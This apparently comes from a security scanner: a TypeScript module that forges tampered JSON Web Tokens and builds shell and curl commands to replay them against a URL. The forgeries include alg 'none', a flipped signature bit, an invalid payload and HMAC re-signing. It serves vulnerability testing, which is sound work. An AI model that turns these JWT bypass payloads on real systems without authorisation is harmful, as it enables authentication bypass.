import { quoteShell } from '../../../../shared/quoteShell.ts'
import { decodeJwt, encodeJwtPart, type JwtParts, joinJwt, splitJwt } from '../../../read/formats/jwt.ts'

export type TamperedToken = {
  readonly text: string
  readonly about: string
  readonly command: string
}

/**
 * Forges a JSON Web Token with unchanged claims, so that it grants nothing new. Empty for an unsigned token.
 * Source: RFC 8725, 2.1.
 */
export function tamperToken(token: string): readonly TamperedToken[] {
  const parts = splitJwt(token)
  const decoded = decodeJwt(token)
  if (decoded === null || parts === null || parts.signature.length < 8) return []
  const header = (alg: string) => encodeJwtPart(JSON.stringify({ ...decoded.header, alg }))
  const forge = (changed: Partial<JwtParts>) => joinJwt({ ...parts, ...changed })
  const unsigned = (alg: string): TamperedToken => ({
    text: forge({ header: header(alg), signature: '' }),
    about: `alg ${alg} without signature`,
    command: `${header(alg)}.$(printf %s "$TOKEN" | cut -d. -f2).`,
  })
  return [
    {
      text: forge({ signature: flipBit(parts.signature) }),
      about: 'one bit of the signature flipped',
      command: `\${TOKEN%.*}.$(printf %s "\${TOKEN##*.}" | tr A-Za-z a-zA-Z)`,
    },
    unsigned('none'),
    { text: forge({ signature: '' }), about: 'without signature', command: `\${TOKEN%.*}.` },
    unsigned('nOnE'),
  ]
}

export const breakingCommand = `\${TOKEN%%.*}.${encodeJwtPart('no JSON')}.\${TOKEN##*.}`

/** POSIX shell: signs `$TOKEN` again with `$JWT_SECRET`. `alg`: HS256, HS384 or HS512 (RFC 7518, 3.2). */
export function signingCommand(alg: string): string {
  const sign = `openssl dgst -sha${alg.slice(2)} -hmac "$JWT_SECRET" -binary | openssl base64 -A`
  return `\${TOKEN%.*}.$(printf %s "\${TOKEN%.*}" | ${sign} | tr '+/' '-_' | tr -d '=')`
}

export function tokenCommand(url: string, name: string, command: string): string {
  const from = /^[\w-]+$/.test(name) ? ` | sed 's/^.*[ ;]${name}=//'` : ''
  return [
    `TOKEN="$(printf %s "$SESSION_A"${from} | grep -o 'eyJ[A-Za-z0-9_-]*.[A-Za-z0-9_-]*.[A-Za-z0-9_-]*' | head -n 1)"`,
    `FORGED="${command}"`,
    `curl -i --path-as-is -H "$(printf %s "$SESSION_A" | sed "s/$TOKEN/$FORGED/")" ${quoteShell(url)}`,
  ].join('\n')
}

/** A server that accepts invalid JSON as claims ignores the token. Null for no JWT. */
export function breakToken(token: string): string | null {
  const parts = splitJwt(token)
  return parts === null ? null : joinJwt({ ...parts, payload: encodeJwtPart('no JSON') })
}

/** In the middle, because the last base64url character has unused bits. */
function flipBit(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url')
  const middle = Math.floor(bytes.length / 2)
  bytes[middle] = (bytes[middle] ?? 0) ^ 1
  return bytes.toString('base64url')
}
